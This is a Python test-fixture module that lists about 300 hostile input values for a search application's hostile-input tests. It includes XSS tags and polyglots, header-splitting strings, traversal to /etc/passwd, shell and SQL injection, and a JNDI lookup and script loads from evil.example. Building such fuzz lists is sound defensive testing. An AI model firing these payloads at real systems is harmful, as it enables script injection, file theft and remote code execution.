"""What an attacker would put into a parameter: about 300 values (bytes), for test_hostile.py.

Each kind is after one way in which a value can leave its place: the text, the attribute, the URL, the header, the file
name, the template, the parser.
"""


def _markup():
    action = "alert(1)"
    for tag in (f"<script>{action}</script>", f"<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<img src=x onerror={action}>",
                f"<svg onload={action}>", f"<svg/onload={action}>", f"<svg><script>{action}</script></svg>",
                f"<svg><animate onbegin={action} attributeName=x dur=1s>", f"<svg><a xlink:href='javascript:{action}'><text>x",
                f"<svg><use href='data:image/svg+xml,<svg id=x onload={action}>#x'/>", f"<svg><style>*{{x:url(javascript:1)}}",
                f"<math><mtext></form><form><mglyph><style></math><img src onerror={action}>", "<b>bold</b>", "<b", "<", ">", "<>",
                "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</style><script>alert(1)</script>",
                "</script><script>alert(1)</script>", "</mark></p></article><h1>mine</h1>", "</form><form action=//evil.example>",
                "<form action=//evil.example><input name=password>", "<iframe src=javascript:alert(1)>",
                "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
                "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
                "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>",
                "<style>@import '//evil.example'</style>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
                "<video><source onerror=alert(1)>", "<audio src onerror=alert(1)>", "<input autofocus onfocus=alert(1)>",
                "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript>"
                "<img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>", "<plaintext>",
                "<!-- comment -->", "<!--", "-->", "--!><img src=x onerror=alert(1)>", "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>",
                "<?php echo 1 ?>", "<%= 7*7 %>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
                "<!ENTITY % x SYSTEM '//evil.example'>%x;", "<xi:include href='file:///etc/passwd' xmlns:xi='http://www.w3.org/2001/XInclude'/>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1);//<</script>",
                "<script\x0c>alert(1)</script>", "<script\n>alert(1)</script\n>", "<\x00script>alert(1)</script>",
                "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;", "&#x3c;script&#x3e;", "&amp;lt;b&amp;gt;", "&", "&amp", "&;",
                "&#0;", "&#x110000;", "&notin;", "&lt", "\u2028<script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
                "\u02c2script\u02c3", "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "\\x3cscript\\x3e", "\\u003cscript\\u003e", "<mark>river</mark>", "river<script>", "<river onload=x>"):
        yield tag


def _attributes():
    for quote in ('"', "'", "`", '" ', "' ", '">', "'>", "/>", '"/>', "&quot;", "&#34;", "&#39;", "\\\"", "\\'", " "):
        yield f"{quote}onmouseover=alert(1) x={quote}"
        yield f"{quote}autofocus onfocus=alert(1) "
        yield f"river{quote}style=x:expression(alert(1))"
    yield from ("river\" accesskey=x onclick=alert(1) //", "\t\"\tonclick=alert(1)", "\" formaction=javascript:alert(1) ",
                "\" http-equiv=refresh ", "x\" href=\"javascript:alert(1)", "'\"><img src=x>", "\"\"\"\"\"", "''''", "``", "=", "\"=\"",
                "\" xlink:href=javascript:alert(1) ", "\"\nonclick\n=\nalert(1)\n\"")


def _urls():
    yield from ("javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "\tjavascript:alert(1)", "java\nscript:alert(1)",
                "java\tscript:alert(1)", "javascript&colon;alert(1)", "javascript%3Aalert(1)", "\x01javascript:alert(1)", "vbscript:x",
                "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD4=", "//evil.example/", "///evil.example",
                "/\\evil.example", "\\\\evil.example", "https:evil.example", "http://evil.example/", "https://example.org@evil.example/",
                "https://example.org%00.evil.example/", "#:~:text=<script>", "#\"onclick=alert(1)", "?q=x&format=json", "&format=json",
                "x&page=2&page=3", "q=1;page=2", "%", "%%", "%2", "%zz", "%u003c", "%26format%3Djson", "feed:javascript:alert(1)",
                "mailto:x@evil.example?body=<script>", "file:///etc/passwd", "blob:x", "about:blank", "view-source:x", "ftp://evil.example")


def _headers():
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u560d\u560a", "\u2028", "\x85", "\x0b", "\x0c"):
        yield f"river{end}Set-Cookie: evil=1"
        yield f"{end}{end}<script>alert(1)</script>"
    yield from ("river\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK", "river\r\nStatus: 302 Found\r\nLocation: //evil.example",
                "a\r\n\tfolded", "a, b; rel=next", "<//evil.example>; rel=\"stylesheet\"", "W/\"x\", \"y\"")


def _files():
    yield from ("../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "/etc/passwd\x00.html", "....//....//etc/passwd",
                "%2e%2e%2fetc%2fpasswd", "..%c0%afetc/passwd", "file:///dev/zero", "/dev/zero", "/proc/self/environ", "php://filter", "~root",
                "index", ".", "..", "/", "con", "csa.conf", "commit", "C:\\", "\\\\host\\share", "|cat /etc/passwd", "a" * 300 + "/..")


def _templates_and_shells():
    yield from ("{{q}}", "{{{q}}}", "{{&q}}", "{{#results}}x{{/results}}", "{{> header}}", "{{=<% %>=}}", "{{", "}}", "{{!", "{{^q}}",
                "{{constructor.constructor('alert(1)')()}}", "${7*7}", "#{7*7}", "<%=7*7%>", "{%include x%}", "${jndi:ldap://evil.example/a}",
                "<!--#exec cmd=\"id\"-->", "<!--#include virtual=\"/etc/passwd\"-->", "<esi:include src=//evil.example/>", "$(id)", "`id`",
                ";id", "|id", "&& id", "|| id", "> x", "< x", "$HOME", "${IFS}", "\nid\n", "() { :;}; id", "-d /", "--help", "--version", "-",
                "--", "*", "?", "[a-z]", "!!", "\\", "\\\\", "\\n", "%s%s%s%s%s%s", "%n%n%n%n", "%x%x%x", "%99999999s", "%1$n", "%p", "{0}",
                "{n}", "{0}{1}{2}", "{}", "' OR 1=1 --", "'; DROP TABLE x;", "1 UNION SELECT 1", "*)(uid=*", "' or '1'='1", "<xsl:value-of/>",
                "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "{\"$gt\": \"\"}", "__proto__", "constructor", "toString", "null", "undefined",
                "NaN", "true", "[object Object]", "\",\"x\":\"", "\"}]}", "\\\"}", "\\u0000", "\\ud800", "*/alert(1)/*", "//", "/*", "#")


def _bytes():
    yield from (b"\x00", b"river\x00<script>", b"\xff", b"\xfe\xff", b"\xef\xbb\xbfriver", b"\xc0\xbcscript\xc0\xbe", b"\xe0\x80\xbcscript",
                b"\xf0\x80\x80\xbcscript", b"\xc0\x80", b"\xed\xa0\x80", b"\xed\xb0\x80\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80",
                b"\xe2\x80", b"\xf0\x9f", b"river\xc3", b"\x80", b"\xbf" * 50, b"\xef\xbf\xbe", b"\xef\xbf\xbf", b"\xc2\x85", b"\xc2\x9b31m",
                b"\x1b[2J", b"\x07", b"\x08\x08\x08", b"\x7f", bytes(range(1, 32)), b"\xfc<script>", b"\xe2<b>", b"\x0e", b"\x1a", b"\x1c\x1d\x1e\x1f")


def _letters():
    yield from ("\u202eriver", "\u202e\u2066<b>\u2069", "\u200briver\u200d", "\ufeffriver", "\u0301\u0301\u0301", "a" + "\u0301" * 500, "\U0001f600",
                "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\ufffd", "\ufdd0", "\U0010ffff", "\ue000", "\u00ad", "\u0130\u0131", "\u017f\u212a",
                "\ufb03", "\u1e9e", "\u0149", "\u2126", "\u3000\u3000", "\u180e", "\u2063", "\U000e0001", "\ufffc", "\u061c", "\u0000"[:0] + "\u2029",
                "\u4e00" * 500, "\u0627\u0644" * 100, "\u0e01" * 300, "\u1100\u1161\u11a8" * 50, "\U00020000")


def _syntax():
    yield from ('"', '""', '"river', 'river"', '" "', "(", ")", "()", "(" * 100, ")" * 100, "(" * 1000 + "a" + ")" * 1000, "((((river))))",
                "-", "-river", "--river", "- -", "+", "+river", "AND", "OR", "NOT", "river AND", "OR river", "river NEAR/5 bridge", "river NEAR/99999999999 x",
                "NEAR/-1", "a*", "*", "**", "*a*", "?", "???", "a?*?*?*", "r*v*r", "river~", "river~9", "~", "river^2", "^", "river^1e999", "source:",
                "source:\"<b>\"", "year:2022", "date:2022..", "date:..", "date:9999999999", "title:", "title:<b>", "nofield:x", ":", "::::", "a:b:c",
                "id:river", "lang:xx", '"' * 500, "a " * 2000, "a OR " * 500, "-a " * 500, "a*" + " b*" * 100, "'" * 100, "[1 TO 2]", "{1 TO 2}",
                "\\\"river\\\"", "river\\", "/river/", "(?i)river", "(a+)+$", "^(([a-z])+.)+[A-Z]([a-z])+$", "[", "]", "a{1,99999}", ".*", "\\1",
                "a" * 4096, "a" * 4097, "a" * 8000, "ab " * 1300, "\u00e9" * 2000, "1" * 400, "0", "-1", "1.5", "1e9", "0x10", "99999999999999999999",
                "18446744073709551616", "2147483648", " ", "\t", "  river  ", "1,2", "NULL", "2023-13-45", "2023..2022", "0000", "9999", "en,ru", "EN",
                "relevance", "newest,oldest", "html", "HTML", "json\x00", "river", "river#1", "<river>", "river&bridge", "bridge & its <builders>",
                "B. \"Bo\" O'Hara", "Gazette")


def _polyglots():
    yield from ("jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>",
                "'\"--></style></script><svg onload=alert(1)>{{7*7}}${7*7}%0d%0aX: y", "\"'><b>{{q}}</b><!--#exec cmd=id-->\r\nX-Evil: 1",
                "</script>\"]}'<x y=`z`>%n\x00", "]]></title></summary></entry></feed><script>alert(1)</script>")


def payloads():
    """All of them, each once."""
    found = []
    for kind in (_markup, _attributes, _urls, _headers, _files, _templates_and_shells, _bytes, _letters, _syntax, _polyglots):
        found += [value if isinstance(value, bytes) else value.encode() for value in kind()]
    return list(dict.fromkeys(found))
